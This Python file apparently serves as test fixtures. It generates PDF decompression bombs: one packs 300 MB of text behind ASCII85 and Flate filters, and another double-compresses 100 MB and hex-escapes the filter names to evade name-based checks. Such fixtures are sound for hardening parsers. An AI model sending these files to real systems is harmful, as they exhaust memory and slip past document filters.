"""PDFs that unpack to far more than they hold, in ways that nobody sees from outside."""

import base64
import zlib


def pdf_of(stream: bytes, filters: bytes) -> bytes:
    """One page with this content."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Filter[%s]/Length %d>>stream\n%s\nendstream" % (filters, len(stream), stream),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    made, offsets = b"%PDF-1.4\n", []
    for number, one in enumerate(objects, 1):
        offsets.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    end = b"xref\n0 6\n0000000000 65535 f \n%strailer<</Size 6/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF"
    return made + end % (table, len(made))


def hidden_bomb() -> bytes:
    """300 MB of one letter, packed and then written in letters."""
    packed = zlib.compress(b"BT /F1 12 Tf 10 10 Td (" + b"A" * 300_000_000 + b") Tj ET", 9)
    return pdf_of(base64.a85encode(packed) + b"~>", b"/ASCII85Decode/FlateDecode")


def disguised_bomb() -> bytes:
    """100 MB of nothing after a few words, packed twice, with the filters' names spelt otherwise."""
    packed = zlib.compress(b"BT /F1 12 Tf 10 700 Td (You shall not spam.) Tj ET " + b" " * 100_000_000, 9)
    return pdf_of(zlib.compress(packed, 9), b"/#46lateDecode/Flate#44ecode")
